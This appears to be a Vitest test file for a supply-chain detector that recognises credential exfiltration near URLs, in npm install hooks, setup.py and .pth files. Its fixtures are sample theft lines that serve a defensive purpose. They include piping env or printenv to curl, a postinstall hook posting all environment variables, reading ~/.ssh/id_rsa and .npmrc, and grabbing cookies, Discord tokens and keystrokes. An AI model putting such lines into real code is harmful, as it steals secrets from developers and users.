// Exfiltration context: what the code near a URL gathers (each indicator row, and the look-alikes
// that are configuration, not theft), the npm install hook that holds it, and the evidence in words
// from context + path. Pure functions; no URLs needed (the URL's place is a marker).
import { describe, expect, it } from 'vitest';
import { assessExfil, exfilEvidence, installScriptAt, raiseSeverity, sendsNear } from '../../src/detect/context.js';
import { allIndicators } from '../../src/detect/evidence.js';

const URL_MARK = '<<URL>>';
/** sendsNear for a code snippet whose URL sits where the marker is. */
function sends(code: string): string[] {
  const buf = Buffer.from(code);
  const at = buf.indexOf(URL_MARK);
  return sendsNear(buf, at, at + URL_MARK.length);
}

describe('sendsNear', () => {
  it.each([
    ['fetch(u, { body: JSON.stringify(process.env) })', 'process.env'],
    ['requests.post(u, json=dict(os.environ))', 'os.environ'],
    ['requests.post(u, data=str(os.environ.copy()))', 'os.environ'],
    ['curl -d "$(env)" u', 'all environment variables (env)'],
    ['set | base64 | curl -d @- u', 'all environment variables (env)'],
    ['printenv | curl -d @- u', 'all environment variables (env)'],
    ['Invoke-RestMethod u -Body (Get-ChildItem env: | Out-String)', 'all environment variables (env:)'],
    ['http.Post(u, "text/plain", strings.NewReader(strings.Join(os.Environ(), "\\n")))', 'all environment variables'],
    ['body: ${{ toJSON(secrets) }}', 'all GitHub Actions secrets'],
    ['post(u, { t: process.env.NPM_TOKEN })', 'tokens (NPM_TOKEN)'],
    ['post(u, os.environ["AWS_SECRET_ACCESS_KEY"])', 'tokens (AWS_SECRET_ACCESS_KEY)'],
    ['data = open(os.path.expanduser("~/.ssh/id_rsa")).read()', 'credential files (.ssh/id_rsa)'],
    ['fs.readFileSync(path.join(os.homedir(), ".npmrc"))', 'credential files (.npmrc)'],
    ['p = os.path.join(appdata, "discord", "Local Storage", "leveldb")', 'Discord tokens'],
    ['new Image().src = u + "?c=" + document.cookie', 'browser cookies'],
    ['navigator.clipboard.readText().then((t) => post(u, t))', 'the clipboard'],
    ['from pynput import keyboard', 'keystrokes'],
    ['ImageGrab.grab().save(f)', 'screenshots'],
    ['post(u, { h: os.hostname(), u: os.userInfo() })', 'host and user information (os.hostname())'],
    ['curl u?h=$(whoami)', 'host and user information ($(whoami))'],
  ])('%s → %s', (code, what) => {
    expect(sends(`${code}\n// ${URL_MARK}\n`)).toContain(what);
  });

  it.each([
    'const hook = process.env.SLACK_WEBHOOK_URL || "<<URL>>";',
    'const { SLACK_WEBHOOK } = process.env; // <<URL>>',
    'url = os.environ.get("DISCORD_WEBHOOK", "<<URL>>")',
    'url = os.environ["DISCORD_WEBHOOK"]  # <<URL>>',
    'if (process.env?.CI) notify("<<URL>>")',
    'curl -X POST -H "Content-Type: application/json" -d \'{"text":"deployed"}\' <<URL>>',
  ])('configuration, not exfiltration: %s', (code) => {
    expect(sends(code)).toEqual([]);
  });

  it('looks 20 lines either way, no further', () => {
    const far = `${'// filler\n'.repeat(25)}`;
    expect(sends(`JSON.stringify(process.env)\n${far}${URL_MARK}\n`)).toEqual([]);
    expect(sends(`JSON.stringify(process.env)\n${'// filler\n'.repeat(15)}${URL_MARK}\n`)).toEqual(['process.env']);
    expect(sends(`${URL_MARK}\n${far}document.cookie\n`)).toEqual([]);
  });

  it('every indicator compiles and has an id and words', () => {
    for (const i of allIndicators()) {
      expect(() => new RegExp(i.source, 'g')).not.toThrow();
      expect(i.id).toMatch(/^[a-z-]+$/);
      expect(i.what.length).toBeGreaterThan(3);
    }
  });
});

describe('installScriptAt', () => {
  it.each(['preinstall', 'install', 'postinstall', 'preuninstall', 'prepare'])('finds the %s script that holds the URL', (script) => {
    const text = `{"scripts": {"${script}": "node -e \\"require('https').get('${URL_MARK}')\\""}}`;
    expect(installScriptAt(Buffer.from(text), text.indexOf(URL_MARK))).toBe(script);
  });

  it('not another script, nor another key', () => {
    for (const text of [`{"scripts": {"test": "curl ${URL_MARK}"}}`, `{"postinstall": 1, "homepage": "${URL_MARK}"}`]) {
      expect(installScriptAt(Buffer.from(text), text.indexOf(URL_MARK))).toBeUndefined();
    }
  });
});

describe('assessExfil', () => {
  const discord = { providerName: 'Discord', kind: 'credential' as const };
  const site = { providerName: 'Webhook.site', kind: 'exfil-sink' as const };

  it('says what is sent, to what, from which install hook', () => {
    expect(assessExfil({ sends: ['process.env'], installScript: 'postinstall' }, 'package.json', discord)).toEqual({
      exfil: true,
      evidence: ['posts process.env to a Discord webhook from a postinstall script'],
      confidence: 'medium',
    });
    expect(assessExfil({ sends: ['process.env', 'host and user information (os.hostname())', 'the clipboard'] }, 'src/a.js', site).evidence).toEqual([
      'posts process.env, host and user information (os.hostname()) and the clipboard to a Webhook.site capture endpoint',
    ]);
  });

  it('path-based install hooks: setup.py, .pth files, install scripts, archive members', () => {
    expect(assessExfil(undefined, 'setup.py', discord).evidence).toEqual(['a Discord webhook in setup.py, which runs on pip install']);
    expect(assessExfil(undefined, 'pkg-1.0.tar.gz!pkg-1.0/setup.py', discord).exfil).toBe(true);
    expect(assessExfil(undefined, 'site-packages/evil.pth', discord).evidence).toEqual(['a Discord webhook in evil.pth, a .pth file that Python runs at every start-up']);
    expect(assessExfil({ sends: ['os.environ'] }, 'lib/x.pth', discord).evidence).toEqual(['posts os.environ to a Discord webhook from a .pth file']);
    expect(assessExfil(undefined, 'scripts/postinstall.js', discord).exfil).toBe(true);
    expect(assessExfil({ installScript: 'postinstall' }, 'docs/example.json', discord).exfil).toBe(false);
    expect(assessExfil(undefined, 'src/setup.pyc.txt', discord).exfil).toBe(false);
  });

  it('how the URL was hidden, innermost first', () => {
    expect(assessExfil({ hidden: ['base64 (decoded with atob())', 'a reversed string'] }, 'a.js', discord).evidence).toEqual([
      'the URL is hidden as a reversed string, inside base64 (decoded with atob())',
    ]);
  });

  it('a plain URL with no context is a leaked credential, not an exfiltration channel', () => {
    expect(assessExfil(undefined, 'src/notify.js', discord)).toEqual({ exfil: false, evidence: [] });
    expect(assessExfil({}, undefined, discord)).toEqual({ exfil: false, evidence: [] });
  });

  it('exfilEvidence: bytes and path in, evidence out', () => {
    const text = `{"scripts":{"postinstall":"curl -d \\"$(env)\\" ${URL_MARK}"}}`;
    const start = text.indexOf(URL_MARK);
    expect(exfilEvidence(Buffer.from(text), { start, end: start + URL_MARK.length }, 'node_modules/x/package.json', discord).evidence).toEqual([
      'posts all environment variables (env) to a Discord webhook from a postinstall script',
    ]);
  });

  it('raises the severity one step', () => {
    expect(['low', 'medium', 'high', 'critical'].map((s) => raiseSeverity(s as 'low'))).toEqual(['medium', 'high', 'critical', 'critical']);
  });
});
